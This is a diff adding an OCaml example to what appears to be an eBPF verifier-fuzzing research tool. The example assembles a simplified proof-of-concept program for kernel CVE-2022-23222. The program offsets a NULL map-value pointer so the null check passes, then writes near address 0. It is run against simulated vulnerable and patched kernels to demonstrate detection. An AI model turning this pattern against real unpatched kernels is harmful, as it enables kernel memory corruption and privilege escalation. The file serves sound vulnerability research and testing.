@@ -1,0 +1,75 @@
+(* CVE-2022-23222 (paper Listing 1): the v5.15 verifier allowed ALU
+   arithmetic on nullable map-value pointers.  The classic exploitation
+   pattern offsets the NULL pointer so the subsequent null check passes,
+   then walks back with a negative offset — an attacker-controlled
+   near-NULL write.
+
+   This example loads the exploit program into:
+   - a vulnerable v5.15 kernel: the verifier accepts it and the
+     bpf_asan sanitation catches the null-page write at runtime
+     (indicator #1, precisely how BVF reported the original CVE class);
+   - a fixed kernel: the verifier rejects the pointer arithmetic.
+
+     dune exec examples/cve_2022_23222.exe *)
+
+module Insn = Bvf_ebpf.Insn
+module Asm = Bvf_ebpf.Asm
+module Prog = Bvf_ebpf.Prog
+module Disasm = Bvf_ebpf.Disasm
+module Version = Bvf_ebpf.Version
+module Kconfig = Bvf_kernel.Kconfig
+module Map = Bvf_kernel.Map
+module Verifier = Bvf_verifier.Verifier
+module Loader = Bvf_runtime.Loader
+module Exec = Bvf_runtime.Exec
+module Oracle = Bvf_core.Oracle
+
+let exploit (session : Loader.t) : Insn.t array =
+  let fd = Loader.create_map session (Map.hash_def ()) in
+  Asm.prog
+    [
+      [ Asm.st_dw Insn.R10 (-8) 3l;      (* a key that is NOT in the map *)
+        Asm.ld_map_fd Insn.R1 fd;
+        Asm.mov64_reg Insn.R2 Insn.R10;
+        Asm.alu64_imm Insn.Add Insn.R2 (-8l);
+        Asm.call 1;                      (* r0 = NULL at runtime *)
+        (* the vulnerable check: ALU on a nullable pointer *)
+        Asm.alu64_imm Insn.Add Insn.R0 2048l;
+        Asm.jmp_imm Insn.Jne Insn.R0 0l 2;  (* 2048 != 0: check passes *)
+        Asm.mov64_imm Insn.R0 0l;
+        Asm.exit_;
+        Asm.st_dw Insn.R0 (-2048) 7l ];  (* write to address 0 *)
+      Asm.ret 0l;
+    ]
+
+let attempt (label : string) (config : Kconfig.t) : unit =
+  Printf.printf "== %s ==\n" label;
+  let session = Loader.create config in
+  let prog = exploit session in
+  let result =
+    Loader.load_and_run session (Verifier.request Prog.Socket_filter prog)
+  in
+  (match result.Loader.verdict with
+   | Error e ->
+     Printf.printf "verifier REJECTED the exploit: %s\n"
+       e.Bvf_verifier.Venv.vmsg
+   | Ok _ ->
+     Printf.printf "verifier ACCEPTED the exploit (%s)\n"
+       (match result.Loader.status with
+        | Some (Exec.Finished v) -> Printf.sprintf "ran to completion, r0=%Ld" v
+        | Some Exec.Aborted -> "execution aborted"
+        | Some (Exec.Error m) -> m
+        | None -> "not executed");
+     List.iter
+       (fun f -> print_endline ("  " ^ Oracle.finding_to_string f))
+       (Oracle.classify config result));
+  print_newline ()
+
+let () =
+  let session = Loader.create (Kconfig.fixed Version.V5_15) in
+  print_endline "exploit program (simplified Listing 1):";
+  print_string (Disasm.prog_to_string (exploit session));
+  print_newline ();
+  attempt "vulnerable v5.15 (CVE present)"
+    (Kconfig.make Version.V5_15 ~bugs:[ Kconfig.Cve_2022_23222 ]);
+  attempt "patched kernel" (Kconfig.fixed Version.V5_15)
